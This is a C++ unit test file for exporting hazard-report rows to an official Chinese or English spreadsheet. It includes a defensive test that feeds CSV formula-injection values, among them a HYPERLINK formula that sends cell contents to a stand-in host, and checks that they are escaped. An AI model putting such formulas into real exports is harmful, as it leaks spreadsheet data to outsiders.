#include "ops/tributary/sheet/official_sheet.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>

namespace tributary {
namespace {

using Json = nlohmann::json;
using testing::ElementsAre;
using testing::HasSubstr;
using testing::StartsWith;

Json row() {
  return {{"signal_id", "s-7h2k9q4m1c8v"},
          {"title", "幸福里3号楼：消防"},
          {"listed_level", "orange"},
          {"unit", "U9"},
          {"unit_name", "消防站"},
          {"due", "2025-03-12T18:00+08:00"},
          {"handling", "closed"},
          {"outcome", "rectified"},
          {"why", {{"sentence", "3 位以上不同反映人"}}},
          {"feedback",
           Json::array(
               {{{"at", "2025-03-10T09:00+08:00"}, {"kind", "accepted"}, {"done", Json::array()}},
                {{"at", "2025-03-11T09:00+08:00"}, {"kind", "done"}, {"done", {"repaired"}}}})}};
}

TEST(OfficialSheet, HasTheColumnsInTheirOrder) {
  const Sheet sheet = official_sheet({row().dump(), "no row"}, Language::kChinese);
  EXPECT_THAT(sheet.headings,
              ElementsAre("隐患", "等级", "责任单位", "时限", "处置", "反馈", "编号"));
  ASSERT_EQ(sheet.rows.size(), 1U);
  EXPECT_THAT(sheet.rows[0],
              ElementsAre("幸福里3号楼：消防", "橙", "消防站", "2025-03-12T18:00+08:00",
                          "已办结：已整改", "2025-03-11T09:00+08:00 办结 修复", "s-7h2k9q4m1c8v"));
}

TEST(OfficialSheet, SaysTheSameInEnglish) {
  const Sheet sheet = official_sheet({row().dump()}, Language::kEnglish);
  EXPECT_EQ(sheet.headings.front(), "Hazard");
  EXPECT_EQ(sheet.rows[0][4], "closed: rectified");
  EXPECT_EQ(sheet.rows[0][5], "2025-03-11T09:00+08:00 done repaired");
}

TEST(OfficialSheet, NoReasonIsInIt) {
  for (const Language language : {Language::kChinese, Language::kEnglish}) {
    EXPECT_THAT(csv_of(official_sheet({row().dump()}, language)), Not(HasSubstr("反映人")));
  }
}

TEST(OfficialSheet, NoCellOfItIsAFormula) {
  Json evil = row();
  evil["title"] = "=HYPERLINK(\"http://x.example/\"&A1)";
  evil["unit_name"] = "ok;@SUM(1)";
  evil["due"] = "＝1+1";
  const Sheet sheet = official_sheet({evil.dump()}, Language::kChinese);
  EXPECT_EQ(sheet.rows[0][0], "'=HYPERLINK(\"http://x.example/\"&A1)");
  EXPECT_EQ(sheet.rows[0][2], "ok;'@SUM(1)");
  EXPECT_EQ(sheet.rows[0][3], "'＝1+1");
  const std::string csv = csv_of(sheet);
  EXPECT_THAT(csv, StartsWith("\xEF\xBB\xBF隐患,"));
  EXPECT_THAT(csv, HasSubstr("\r\n\"'=HYPERLINK(\"\"http://x.example/\"\"&A1)\","));
}

}  // namespace
}  // namespace tributary
